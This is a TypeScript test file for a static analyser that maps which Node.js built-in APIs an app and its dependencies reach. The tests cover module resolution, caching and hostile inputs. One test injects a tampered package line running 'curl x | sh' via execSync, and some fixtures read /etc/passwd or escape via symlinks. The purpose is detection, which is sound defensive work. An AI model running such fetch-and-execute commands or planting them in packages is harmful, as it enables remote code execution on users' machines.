import { mkdtemp, mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { cpSync, mkdtempSync, readdirSync, renameSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { NodeAppAnalysis } from './index.js';
import { analyzeNodeApp } from './index.js';
import { memoryAppFs } from './app-fs.js';
import { diskAppFs } from './disk-app-fs.js';
import { FsPackageCache } from './fs-package-cache.js';
import { MemoryPackageCache } from './package-cache.js';

// Fixture apps keep their dependency trees as `node_modules.fixture` (so no node_modules is ever
// committed); each run analyses a copy where they have their real name.
const FIXTURES = prepareFixtures(path.join(import.meta.dirname, 'fixtures'));

function prepareFixtures(src: string): string {
  const dest = mkdtempSync(path.join(tmpdir(), 'charter-node-fixtures-'));
  cpSync(src, dest, { recursive: true, verbatimSymlinks: true });
  const rename = (dir: string): void => {
    for (const e of readdirSync(dir, { withFileTypes: true })) {
      if (!e.isDirectory()) continue;
      const p = path.join(dir, e.name);
      if (e.name === 'node_modules.fixture') {
        const real = path.join(dir, 'node_modules');
        renameSync(p, real);
        rename(real);
      } else rename(p);
    }
  };
  rename(dest);
  return dest;
}

const analyzeFixture = (name: string, entry?: string[]): Promise<NodeAppAnalysis> =>
  analyzeNodeApp({ root: name, fs: diskAppFs(path.join(FIXTURES, name)), ...(entry ? { entry } : {}) });

/** `api file:line:col phase {literals}` lines: exact, ordered, readable in a diff. */
const apis = (r: NodeAppAnalysis): string[] =>
  r.apis.map((a) => `${a.api} ${a.at.file}:${a.at.line}:${a.at.column} ${a.phase}${a.literals ? ` ${JSON.stringify(a.literals)}` : ''}`);
const doubts = (r: NodeAppAnalysis): string[] => r.uncertainties.map((u) => `${u.kind} ${u.at.file}:${u.at.line}:${u.at.column}`);

describe('analyzeNodeApp on fixtures', () => {
  it('follows a CommonJS server: objects, literal ports, hosts, commands, paths, flags, phases', async () => {
    const r = await analyzeFixture('cjs-server');
    expect(r.entryPoints).toEqual([{ file: 'server.js', why: 'package.json main' }]);
    expect(apis(r)).toEqual([
      'http.createServer server.js:8:21 startup',
      'fs.readFile server.js:9:6 serving {"path":"/srv/index.html"}',
      'http.Server#listen server.js:11:8 startup {"port":8080,"host":"0.0.0.0"}',
      'net.createConnection server.js:13:22 startup {"port":6379,"host":"redis"}',
      'child_process.spawn server.js:14:1 startup {"command":"/usr/bin/convert","args":["-resize","50%"]}',
      'child_process.execFile server.js:15:1 startup {"command":"git","args":["rev-parse","HEAD"]}',
      'fs.openSync server.js:16:4 startup {"path":"/var/log/app.log","flags":"a"}',
      'process.on server.js:17:9 startup',
      'http.Server#close server.js:17:36 serving',
    ]);
    expect(r.uncertainties).toEqual([]);
  });

  it('follows ES modules: default, namespace and named imports, node: prefix, re-exports, export *, import()', async () => {
    const r = await analyzeFixture('esm-app');
    expect(apis(r)).toEqual([
      'fs.writeFileSync index.js:7:4 startup {"path":"/tmp/a"}',
      'fs.mkdirSync index.js:8:5 startup {"path":"/tmp/b"}',
      'fs/promises.readFile index.js:9:7 startup {"path":"/etc/hostname"}',
      'child_process.spawn index.js:10:1 startup {"command":"ls"}',
      'fs.readFile index.js:11:1 startup {"path":"/etc/passwd"}',
      'os.hostname index.js:12:1 startup',
      'fs/promises.unlink index.js:13:9 startup {"path":"/tmp/c"}',
      // Loaded by import(): its top level runs later, so it is not a startup use.
      'dns.lookup late.js:3:7 serving {"host":"example.org"}',
    ]);
    expect(r.reachedFiles).toBe(3);
  });

  it('follows CommonJS exports into ES modules (default interop) and createRequire', async () => {
    const r = await analyzeFixture('mixed');
    expect(apis(r)).toEqual([
      'module.createRequire main.mjs:4:17 startup',
      'fs.readFileSync main.mjs:6:3 startup {"path":"/a"}',
      'fs.writeFileSync main.mjs:7:6 startup {"path":"/b"}',
      'fs.readFileSync main.mjs:8:1 startup {"path":"/c"}',
      'os.networkInterfaces main.mjs:9:4 startup',
    ]);
  });

  it('resolves exports maps with conditions and patterns, null targets, and #imports', async () => {
    const r = await analyzeFixture('exports-maps');
    expect(apis(r)).toEqual([
      'dgram.createSocket db.js:1:18 startup',
      'dgram.Socket#bind db.js:1:39 startup {"port":5353}',
      'net.connect node_modules/cond-pkg/features/net.js:1:16 startup {"port":5432,"host":"db"}',
      'fs.readFileSync node_modules/cond-pkg/lib/cjs.cjs:2:53 serving {"path":"/etc/cond"}',
      'fs/promises.writeFile node_modules/cond-pkg/lib/esm.mjs:2:37 serving {"path":"/tmp/cond"}',
      'os.cpus node_modules/cond-pkg/lib/internal.js:1:32 startup',
    ]);
    expect(doubts(r)).toEqual(['missing-module app.js:3:1']);
    expect(r.reachedPackages).toEqual(['cond-pkg@2.1.0']);
  });

  it('follows destructuring, renames, promisify, bind, call, re-export chains and compiled TypeScript', async () => {
    const r = await analyzeFixture('aliases');
    expect(r.entryPoints).toEqual([
      { file: 'preload.js', why: 'package.json scripts.start preload' },
      { file: 'app.js', why: 'package.json scripts.start' },
    ]);
    expect(apis(r)).toEqual([
      'fs.readFile app.js:11:1 startup {"path":"/data/a.json"}',
      'fs/promises.stat app.js:12:1 startup {"path":"/data"}',
      'fs.writeFile app.js:13:1 startup {"path":"/data/out"}',
      'fs.unlink app.js:14:4 startup {"path":"/data/old"}',
      'os.hostname app.js:15:4 startup',
      'fs.chmodSync app.js:16:8 startup {"path":"/data/x"}',
      'child_process.execSync app.js:17:7 startup {"command":"whoami"}',
      'fs.readdir app.js:18:12 startup {"path":"/data"}',
      'fs.existsSync preload.js:1:15 startup {"path":"/etc/preload"}',
    ]);
    expect(r.uncertainties).toEqual([]);
  });

  it('reports dynamic code with locations and assumptions', async () => {
    const r = await analyzeFixture('dynamic');
    expect(apis(r)).toEqual([
      'vm.runInNewContext index.js:7:4 startup',
      'fs.* index.js:8:9 startup',
      'process.binding index.js:8:9 startup',
      'fs.* index.js:10:1 startup',
      'global.setTimeout index.js:11:1 startup',
      'global.fetch index.js:11:18 serving {"host":"api.example.com","port":8443}',
    ]);
    // The plugin directory bounds the computed require; argv is outside input; the constant eval
    // and Function are analysed in place; the literal binding name is narrowed to fs.
    expect(doubts(r)).toEqual([
      'computed-module index.js:2:16',
      'dynamic-import index.js:3:1',
      'vm index.js:7:4',
      'computed-member index.js:10:1',
    ]);
    expect(r.uncertainties[1]!.message).toMatch(/the name comes from process\.argv/);
    for (const u of r.uncertainties) expect(u.assumption.length).toBeGreaterThan(10);
  });

  it('reports native addons', async () => {
    const r = await analyzeFixture('native');
    expect(r.nativeAddons).toEqual([
      {
        package: 'addon@0.3.0',
        file: 'node_modules/addon/build/Release/addon.node',
        how: 'loaded by path (node-gyp build directory)',
        at: { file: 'node_modules/addon/index.js', line: 1, column: 18 },
        elf: true,
      },
    ]);
    expect(doubts(r)).toEqual(['native-addon node_modules/addon/index.js:1:18']);
    expect(r.reachedPackages).toEqual(['addon@0.3.0']);
  });

  it('terminates on circular requires and keeps both sides', async () => {
    const r = await analyzeFixture('circular');
    expect(apis(r)).toEqual([
      'fs.rmSync a.js:3:15 startup {"path":"/tmp/a"}',
      'os.hostname b.js:2:39 serving',
      'fs.rmdirSync b.js:2:62 serving {"path":"/tmp/b"}',
    ]);
  });

  it('reports missing modules and lists reached and unreached packages', async () => {
    const r = await analyzeFixture('missing');
    expect(apis(r)).toEqual(['dns.resolve4 node_modules/present/index.js:1:16 startup {"host":"db.local"}']);
    expect(doubts(r)).toEqual(['missing-module index.js:2:1', 'missing-module index.js:3:1', 'missing-module index.js:4:7']);
    expect(r.reachedPackages).toEqual(['present@1.2.3']);
    // The unused package's exec is not reported: it is never loaded.
    expect(r.unreachedPackages).toEqual(['unused@9.9.9']);
  });

  it('treats an unparsable file conservatively: built-ins it names, requires found by text', async () => {
    const r = await analyzeFixture('unparsed');
    expect(apis(r)).toEqual(['child_process.* index.js:3:22 serving', 'os.uptime ok.js:1:15 serving']);
    expect(doubts(r)).toEqual(['unparsed index.js:3:9']);
  });

  it('uses a given entry point over package.json', async () => {
    const r = await analyzeFixture('circular', ['b.js']);
    expect(r.entryPoints).toEqual([{ file: 'b.js', why: 'given entry point' }]);
    expect(r.reachedFiles).toBe(2);
  });
});

describe('analyzeNodeApp on hostile or generated input', () => {
  const tmp: string[] = [];
  afterAll(async () => {
    for (const d of tmp) await rm(d, { recursive: true, force: true });
  });

  it('reports a symlink loop in node_modules without hanging', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'charter-loop-'));
    tmp.push(dir);
    await mkdir(path.join(dir, 'node_modules'));
    await symlink('b', path.join(dir, 'node_modules', 'a'));
    await symlink('a', path.join(dir, 'node_modules', 'b'));
    await symlink('.', path.join(dir, 'node_modules', 'self'));
    await writeFile(path.join(dir, 'index.js'), "require('a');\nrequire('self/self/self/x');\nrequire('fs').statSync('/');\n");
    const r = await analyzeNodeApp({ root: dir, fs: diskAppFs(dir) });
    expect(doubts(r)).toEqual(['symlink-loop index.js:1:1', 'missing-module index.js:2:1']);
    expect(apis(r)).toEqual(['fs.statSync index.js:3:15 startup {"path":"/"}']);
  });

  it('never follows a symlink out of the root', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'charter-out-'));
    tmp.push(dir);
    await mkdir(path.join(dir, 'node_modules'));
    await symlink('/etc', path.join(dir, 'node_modules', 'etc'));
    await symlink('../..', path.join(dir, 'node_modules', 'up'));
    await writeFile(path.join(dir, 'index.js'), "require('etc/passwd');\nrequire('up/x');\n");
    const r = await analyzeNodeApp({ root: dir, fs: diskAppFs(dir) });
    expect(doubts(r)).toEqual(['missing-module index.js:1:1', 'missing-module index.js:2:1']);
    expect(r.reachedFiles).toBe(1);
  });

  it('parses a 10 MB minified bundle and finds the built-ins in it', async () => {
    const chunk = 'function a0(e,t){var n=e.x+t.y;return n*2+a0.length}';
    const parts: string[] = ['var h=require("http"),f=require("fs");'];
    let size = parts[0]!.length;
    for (let i = 0; size < 10 * 1024 * 1024; i++) {
      const c = chunk.replaceAll('a0', `a${i}`);
      parts.push(c);
      size += c.length;
    }
    parts.push('h.createServer(function(q,s){f.readFile("/x",function(){})}).listen(80);');
    const started = Date.now();
    const r = await analyzeNodeApp({ root: 'bundle', fs: memoryAppFs({ 'index.js': parts.join('') }) });
    const ms = Date.now() - started;
    expect(r.apis.map((a) => a.api)).toEqual(['http.createServer', 'fs.readFile', 'http.Server#listen']);
    expect(r.apis[2]!.literals).toEqual({ port: 80 });
    expect(r.uncertainties).toEqual([]);
    expect(ms).toBeLessThan(30_000);
  }, 60_000);

  it('scans an oversized file as text instead of parsing it', async () => {
    const src = `${'x;'.repeat(600)}require("child_process");require('./dep')`;
    const r = await analyzeNodeApp(
      { root: 'big', fs: memoryAppFs({ 'index.js': src, 'dep.js': "require('os').uptime()" }) },
      { limits: { maxParseBytes: 1000 } },
    );
    expect(doubts(r)).toEqual(['too-large index.js:1:1']);
    expect(r.apis.map((a) => a.api)).toEqual(['os.uptime', 'child_process.*']);
  });

  it('survives deeply nested code and junk bytes', async () => {
    const deep = `${'['.repeat(20000)}${']'.repeat(20000)};require('fs').statSync('/d')`;
    const r = await analyzeNodeApp({
      root: 'junk',
      fs: memoryAppFs({
        'index.js': "require('./deep');require('./junk');require('./data.json')",
        'deep.js': deep,
        'junk.js': new Uint8Array([0, 255, 254, 1, 2]),
        'data.json': '{}',
      }),
    });
    expect(r.reachedFiles).toBe(4);
    expect(r.apis.map((a) => a.api)).toContain('fs.*');
  });

  it('contains a parser crash to the file that causes it, says where, and analyses the others', async () => {
    const hostile = `x = 1;\ny = \`\${${'`${'.repeat(9000)}x${'}`'.repeat(9000)}}\`;\nrequire('dns');`;
    const r = await analyzeNodeApp({
      root: 'crash',
      fs: memoryAppFs({
        'index.js': "require('./deep'); require('./other');",
        'deep.js': hostile,
        'other.js': "require('child_process').execSync('id');",
      }),
    });
    // Where the nesting is deepest: the innermost substitution.
    expect(doubts(r)).toEqual([`unparsed deep.js:2:${hostile.split('\n')[1]!.lastIndexOf('${') + 1}`]);
    expect(r.uncertainties[0]!.message).toMatch(/^does not parse: nested \d+ deep/);
    // The unparsed file is widened: every built-in it names is used as a whole.
    expect(r.apis.map((a) => `${a.at.file} ${a.api}`)).toEqual(['deep.js dns.*', 'other.js child_process.execSync']);
  }, 60_000);

  it('reports when no entry point exists', async () => {
    const r = await analyzeNodeApp({ root: 'empty', fs: memoryAppFs({ 'README.md': 'hi' }) });
    expect(r.entryPoints).toEqual([]);
    expect(doubts(r)).toEqual(['missing-module package.json:1:1']);
  });

  it('serves repeated analyses from the package cache without parsing package files', async () => {
    const cache = new MemoryPackageCache();
    const fs = diskAppFs(path.join(FIXTURES, 'exports-maps'));
    const first = await analyzeNodeApp({ root: 'x', fs }, { cache });
    expect(first.stats.fromCache).toBe(0);
    expect(cache.puts).toBe(1);
    const second = await analyzeNodeApp({ root: 'x', fs }, { cache });
    expect(second.stats.fromCache).toBe(4);
    expect(second.stats.parsed).toBe(2);
    expect(second.apis).toEqual(first.apis);
    expect(second.uncertainties).toEqual(first.uncertainties);
  });

  it('fills one cache entry from every installed copy of a package version', async () => {
    const dup = {
      'package.json': '{"name":"dup","version":"1.0.0"}',
      'x.js': "require('fs').readFileSync('x')",
      'y.js': "require('fs').readFileSync('y')",
    };
    const files: Record<string, string> = {
      'package.json': '{"name":"app","main":"index.js"}',
      'index.js': "require('a'); require('b');",
      'node_modules/a/package.json': '{"name":"a","version":"1.0.0"}',
      'node_modules/a/index.js': "require('dup/x')",
      'node_modules/b/package.json': '{"name":"b","version":"1.0.0"}',
      'node_modules/b/index.js': "require('dup/y')",
    };
    for (const [f, text] of Object.entries(dup)) {
      files[`node_modules/a/node_modules/dup/${f}`] = text;
      files[`node_modules/b/node_modules/dup/${f}`] = text;
    }
    const cache = new MemoryPackageCache();
    const first = await analyzeNodeApp({ root: 'x', fs: memoryAppFs(files) }, { cache });
    const second = await analyzeNodeApp({ root: 'x', fs: memoryAppFs(files) }, { cache });
    expect(second.stats).toMatchObject({ parsed: 1, fromCache: 4 });
    expect(second.apis).toEqual(first.apis);
    expect(second.apis.map((a) => `${a.at.file} ${a.api}`)).toEqual([
      'node_modules/a/node_modules/dup/x.js fs.readFileSync',
      'node_modules/b/node_modules/dup/y.js fs.readFileSync',
    ]);
  });

  it('keeps a modified copy of a package version apart from the original (in memory and on disk)', async () => {
    const original = { 'package.json': '{"name":"dup","version":"1.0.0"}', 'index.js': "module.exports = require('fs').readFileSync('x')" };
    const files: Record<string, string> = {
      'package.json': '{"name":"app","main":"index.js"}',
      'index.js': "require('a'); require('b');",
      'node_modules/a/package.json': '{"name":"a","version":"1.0.0"}',
      'node_modules/a/index.js': "require('dup')",
      'node_modules/b/package.json': '{"name":"b","version":"1.0.0"}',
      'node_modules/b/index.js': "require('dup')",
    };
    for (const [f, text] of Object.entries(original)) {
      files[`node_modules/a/node_modules/dup/${f}`] = text;
      files[`node_modules/b/node_modules/dup/${f}`] = text;
    }
    files['node_modules/b/node_modules/dup/index.js'] += ";\nrequire('child_process').execSync('curl x | sh');";
    const expected = [
      'node_modules/a/node_modules/dup/index.js fs.readFileSync',
      'node_modules/b/node_modules/dup/index.js fs.readFileSync',
      'node_modules/b/node_modules/dup/index.js child_process.execSync',
    ];
    const cacheDir = await mkdtemp(path.join(tmpdir(), 'charter-node-cache-'));
    tmp.push(cacheDir);
    for (const cache of [new MemoryPackageCache(), new FsPackageCache(cacheDir), new FsPackageCache(cacheDir)]) {
      const r = await analyzeNodeApp({ root: 'x', fs: memoryAppFs(files) }, { cache });
      expect(r.apis.map((a) => `${a.at.file} ${a.api}`)).toEqual(expected);
    }
    // Warm, from disk: both variants of the file come from the one entry of dup@1.0.0.
    const warm = await analyzeNodeApp({ root: 'x', fs: memoryAppFs(files) }, { cache: new FsPackageCache(cacheDir) });
    expect(warm.stats).toMatchObject({ parsed: 1, fromCache: 4 });
    expect(readdirSync(path.join(cacheDir, 'node-packages'))).toHaveLength(3);
  });

  // Facts go through JSON and the schema on disk: nothing may be lost or added on the way.
  it.each(['exports-maps', 'missing', 'native'])('gives the same results from the on-disk package cache (%s)', async (app) => {
    const cacheDir = await mkdtemp(path.join(tmpdir(), 'charter-node-cache-'));
    try {
      const fs = diskAppFs(path.join(FIXTURES, app));
      const cold = await analyzeNodeApp({ root: 'x', fs });
      await analyzeNodeApp({ root: 'x', fs }, { cache: new FsPackageCache(cacheDir) });
      const warm = await analyzeNodeApp({ root: 'x', fs }, { cache: new FsPackageCache(cacheDir) });
      expect(warm.stats.fromCache).toBeGreaterThan(0);
      const { stats: _c, ...coldRest } = cold;
      const { stats: _w, ...warmRest } = warm;
      expect(warmRest).toEqual(coldRest);
    } finally {
      await rm(cacheDir, { recursive: true, force: true });
    }
  });
});
